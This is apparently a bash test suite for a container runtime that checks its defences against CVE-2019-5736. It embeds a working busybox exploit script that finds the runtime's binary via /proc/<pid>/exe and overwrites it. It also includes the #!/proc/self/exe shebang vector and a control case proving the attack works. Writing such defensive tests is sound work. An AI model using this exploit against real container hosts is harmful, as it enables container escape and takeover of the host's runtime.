#!/usr/bin/env bash
# CVE-2019-5736: a container overwrites the runtime's binary on the host through
# /proc/<pid>/exe of a runtime process that is (or was) inside the container.
#
# Every case runs a COPY of the runtime under test ($CASEDIR/rt/sharness-runtime), so a
# successful attack damages only that copy; the copy's sha256 is checked after the attack.
# This suite refuses to run against anything but sharness-runtime (never runc or crun: a
# successful attack there would overwrite the real binary of the system's runtime).
#
# The attacker is a busybox shell script (/attacker) run inside the container with `exec -d`:
# it scans /proc for a process whose exe is the runtime's binary, opens /proc/<pid>/exe
# read-only, waits for that process to leave the binary (exit or execve) and then opens
# /proc/self/fd/3 read-write and writes over the binary: exactly the 2019 exploit. Its log
# (/tmp/attack.log in the rootfs) says how far it got: found / open-refused / opened / WROTE.
#
# Vectors:
#   - exec of a `#!/proc/self/exe` script: the runtime's exec child execve()s the script and
#     the kernel runs the runtime's binary as the container's process (the image brings the
#     dynamic loader and the runtime's libraries, as an image of the same distribution would).
#     `--log=/fifo` on the #! line holds that process while the attacker opens its exe.
#   - the same as the container's own process (create/start), with the pid namespace shared.
#   - init of a created-but-not-started container (pid 1, visible to an exec'd process),
#     without and with CAP_SYS_PTRACE.
#   - exec children before their execve, raced by a scanner.
# Control: the same attacker overwrites a decoy binary of the image run the same way, so a
# case cannot pass because the attacker script does not work.
. "$(dirname "$0")/../lib.sh"
. "$(dirname "$0")/attack-lib.bash"

if [ "$OURS" != 1 ]; then
  echo "# SKIP: the binary-overwrite attack runs only against sharness-runtime (a copy of it), never $RUNTIME_NAME"
  exit 77
fi

# Cleanup (lib.sh's delete --force after each case and at exit) uses a pristine copy; each case
# attacks its own copy.
mkdir -p "$TMP/rt-clean"
cp "$RUNTIME" "$TMP/rt-clean/sharness-runtime"
RUNTIME=$TMP/rt-clean/sharness-runtime
CLEAN_RT=$RUNTIME

# use_copy: the runtime under test for this case is a fresh copy; sets COPY and COPY_SUM.
use_copy() {
  mkdir -p "$CASEDIR/rt"
  cp "$CLEAN_RT" "$CASEDIR/rt/sharness-runtime"
  COPY=$CASEDIR/rt/sharness-runtime
  RUNTIME=$COPY
  COPY_SUM=$(sha256sum <"$COPY")
}

assert_copy_intact() {
  local now
  now=$(sha256sum <"$COPY")
  [ "$now" = "$COPY_SUM" ] && { echo "runtime copy intact (sha256 ${now:0:16})"; return 0; }
  echo "first bytes of the copy now: $(head -c 32 "$COPY" | od -c | head -2 | tr -s ' ')"
  fail "the runtime binary was overwritten from inside the container (sha256 ${COPY_SUM:0:16} -> ${now:0:16})"
}

# add_runtime_libs ROOTFS: the dynamic loader and the libraries of the runtime, at their host
# paths, so that the runtime's binary can run inside this image.
add_runtime_libs() {
  local r=$1 l
  # (a static build needs none: ldd then lists nothing)
  for l in $({ ldd "$COPY" 2>/dev/null || true; } | { grep -o '/[^ ]*' || true; }); do
    mkdir -p "$r$(dirname "$l")"
    cp -L "$l" "$r$l"
  done
}

# attacker_bundle NAME [ARGS...]: a busybox bundle with /attacker, /fifo and the runtime's
# libraries; sets B.
attacker_bundle() {
  local name=$1; shift
  B=$(new_bundle "$name" "$@")
  add_runtime_libs "$B/rootfs"
  mkfifo "$B/rootfs/fifo"
  printf '#!/proc/self/exe --log=/fifo\n' >"$B/rootfs/evil"
  chmod 0755 "$B/rootfs/evil"
  cat >"$B/rootfs/attacker" <<'EOF'
# /attacker EXE_PATTERN SECONDS: overwrite the binary of the first process whose exe matches.
pat=$1; end=$(( $(date +%s) + ${2:-8} )); log=/tmp/attack.log
refused=0
while [ "$(date +%s)" -lt "$end" ]; do
  for d in /proc/[0-9]*; do
    [ "${d#/proc/}" = "$$" ] && continue
    l=$(readlink "$d/exe" 2>/dev/null)
    if [ -z "$l" ]; then
      # not readable: is it a process we look for? (comm is readable without ptrace rights)
      case $(cat "$d/comm" 2>/dev/null) in sharness*) refused=$((refused + 1)); [ $refused = 1 ] && echo "readlink-refused ${d#/proc/}" >>$log;; esac
      continue
    fi
    case $l in $pat) ;; *) continue ;; esac
    echo "found ${d#/proc/} $l" >>$log
    if ! ( : <"$d/exe" ) 2>/dev/null; then
      refused=$((refused + 1)); [ $refused = 1 ] && echo "open-refused ${d#/proc/}" >>$log
      continue
    fi
    exec 3<"$d/exe" || continue
    echo "opened ${d#/proc/}" >>$log
    [ -p /fifo ] && (cat /fifo >/dev/null &)
    while [ "$(date +%s)" -lt "$end" ]; do
      if printf 'PWNED-BY-CONTAINER' 1<>/proc/self/fd/3 2>/dev/null; then echo WROTE >>$log; echo END >>$log; exit 0; fi
      usleep 5000
    done
    echo "write-refused (text busy or read-only, until the end)" >>$log; echo END >>$log; exit 0
  done
  usleep 3000
done
echo "gave up (refused $refused times)" >>$log; echo END >>$log
EOF
}

# wait_attacker ROOTFS [SECONDS]: until the attacker's log has END; prints the log.
wait_attacker() {
  local log=$1/tmp/attack.log i
  for ((i = 0; i < ${2:-15} * 10; i++)); do
    grep -q '^END' "$log" 2>/dev/null && break
    sleep 0.1
  done
  echo "--- attacker log:"; cat "$log" 2>/dev/null; echo "---"
  grep -q '^END' "$log" 2>/dev/null || fail "the attacker did not finish"
}

case_control_decoy() {
  # Control: the attacker overwrites a decoy binary run the same way (exec of a process whose
  # exe it can open), so the script and the write through /proc/self/fd/3 really work.
  local id r sum
  use_copy
  attacker_bundle b sh -c 'sleep 600'
  r=$B/rootfs
  mkdir -p "$r/decoy"
  cp /bin/busybox "$r/decoy/sleep"  # busybox picks the applet from argv[0]
  sum=$(sha256sum <"$r/decoy/sleep")
  id=$(newid decoy)
  must_create "$B" "$id"
  must_start "$id"
  assert_ok rt exec -d "$id" sh /attacker /decoy/sleep 8
  sleep 0.3
  assert_ok rt exec "$id" /decoy/sleep 1
  wait_attacker "$r"
  assert_contains "$(cat "$r/tmp/attack.log")" WROTE "attacker against a decoy binary"
  assert_ne "$sum" "$(sha256sum <"$r/decoy/sleep")" "decoy checksum (the control attack must work)"
  assert_copy_intact
}

case_exec_shebang_self_exe() {
  # The 2019 exploit: exec of a #!/proc/self/exe script.
  local id r
  use_copy
  attacker_bundle b sh -c 'sleep 600'
  r=$B/rootfs
  id=$(newid shebang)
  must_create "$B" "$id"
  must_start "$id"
  assert_ok rt exec -d "$id" sh /attacker "*/sharness-runtime" 8
  sleep 0.3
  { rt exec "$id" /evil || true; } >"$CASEDIR/evil.out" 2>&1 </dev/null &
  local ex=$!
  wait_attacker "$r"
  # The re-executed runtime may still wait to open /fifo for its log: give it a reader.
  timeout 5 cat "$r/fifo" >/dev/null 2>&1 || true
  wait "$ex" || true
  echo "exec /evil said: $(cat "$CASEDIR/evil.out")"

  assert_not_contains "$(cat "$r/tmp/attack.log")" WROTE "attacker log"
  assert_copy_intact
}

case_init_shebang_shared_pidns() {
  # The container's own process is the #!/proc/self/exe script; the pid namespace is shared
  # (docker --pid=host), so the attacker outlives it.
  local id r
  use_copy
  attacker_bundle b /evil
  r=$B/rootfs
  no_pid_ns "$B"
  id=$(newid initshebang)
  must_create "$B" "$id"
  assert_ok rt exec -d "$id" sh /attacker "*/sharness-runtime" 8
  sleep 0.3
  rt start "$id" >"$CASEDIR/start.out" 2>&1 || true
  wait_attacker "$r"

  assert_not_contains "$(cat "$r/tmp/attack.log")" WROTE "attacker log"
  assert_copy_intact
}

case_created_init() {
  # Init of a created container waits in the runtime's binary as pid 1; an exec'd process
  # tries /proc/1/exe, then start lets init execve the program.
  local id r
  use_copy
  attacker_bundle b sleep 10
  r=$B/rootfs
  id=$(newid created)
  must_create "$B" "$id"
  assert_ok rt exec -d "$id" sh /attacker "*/sharness-runtime" 5
  sleep 1
  must_start "$id"
  wait_attacker "$r"
  assert_not_contains "$(cat "$r/tmp/attack.log")" WROTE "attacker log"
  assert_not_contains "$(cat "$r/tmp/attack.log")" opened "attacker log"
  assert_copy_intact
}

case_created_init_cap_sys_ptrace() {
  # The same with CAP_SYS_PTRACE in the exec'd process (docker run --cap-add SYS_PTRACE):
  # PR_SET_DUMPABLE 0 no longer hides init's exe, only a binary that cannot be written does.
  local id r
  use_copy
  attacker_bundle b sleep 10
  r=$B/rootfs
  cfg "$B" '.process.capabilities |= with_entries(.value += ["CAP_SYS_PTRACE"])'
  id=$(newid ptrace)
  must_create "$B" "$id"
  assert_ok rt exec -d --cap CAP_SYS_PTRACE "$id" sh /attacker "*/sharness-runtime" 5
  sleep 1
  must_start "$id"
  wait_attacker "$r"

  assert_not_contains "$(cat "$r/tmp/attack.log")" WROTE "attacker log"
  assert_copy_intact
}

case_exec_children_raced() {
  # exec children join the pid namespace before their execve: a scanner races 25 of them.
  local id r i
  use_copy
  attacker_bundle b sh -c 'sleep 600'
  r=$B/rootfs
  id=$(newid race)
  must_create "$B" "$id"
  must_start "$id"
  assert_ok rt exec -d "$id" sh /attacker "*/sharness-runtime" 6
  sleep 0.2
  for ((i = 0; i < 25; i++)); do
    rt exec "$id" true >/dev/null 2>&1 || true
  done
  wait_attacker "$r"
  assert_not_contains "$(cat "$r/tmp/attack.log")" WROTE "attacker log"
  assert_copy_intact
}

case_reexec_before_libc() {
  # The sealed re-exec happens at the ELF entry point (runtime/linux/sealed_exe_entry.c): the
  # first thing create, run and exec do is execute the read-only copy, once, before the C
  # library sets up its thread pointer; other commands do not re-execute at all.
  local log=$CASEDIR/strace.log n first cmd
  command -v strace >/dev/null || { echo "# strace missing (scripts/install-deps.sh installs it)"; return 1; }
  for cmd in "exec no-such-container true" "run --bundle $CASEDIR/none no-such-container" "create --bundle $CASEDIR/none no-such-container"; do
    # shellcheck disable=SC2086
    strace -f -qq -e trace=execve,execveat,arch_prctl -o "$log" "$RUNTIME" --root "$STATE" $cmd >/dev/null 2>&1 || true
    n=$(grep -c 'execveat(' "$log" || true)
    [ "$n" = 1 ] || { cat "$log"; fail "${cmd%% *}: $n re-executions, expected 1"; }
    first=$(grep -m1 -E 'execveat\(|arch_prctl\(ARCH_SET_FS' "$log")
    assert_contains "$first" "AT_EMPTY_PATH" "${cmd%% *}: the first of execveat/arch_prctl(ARCH_SET_FS)"
  done
  strace -f -qq -e trace=execve,execveat -o "$log" "$RUNTIME" --root "$STATE" state no-such-container >/dev/null 2>&1 || true
  assert_not_contains "$(cat "$log")" "execveat(" "state's system calls"
}

tcase "control: the attacker overwrites a decoy binary through /proc/<pid>/exe" case_control_decoy
tcase "create/run/exec re-execute from the read-only copy before the C library starts" case_reexec_before_libc
tcase "exec of a #!/proc/self/exe script cannot overwrite the runtime binary" case_exec_shebang_self_exe
tcase "a #!/proc/self/exe container process (shared pid ns) cannot overwrite the runtime" case_init_shebang_shared_pidns
tcase "created init's /proc/1/exe is not reachable from an exec'd process" case_created_init
tcase "created init's exe cannot be written even with CAP_SYS_PTRACE" case_created_init_cap_sys_ptrace
tcase "exec children raced before execve: binary untouched" case_exec_children_raced
finish
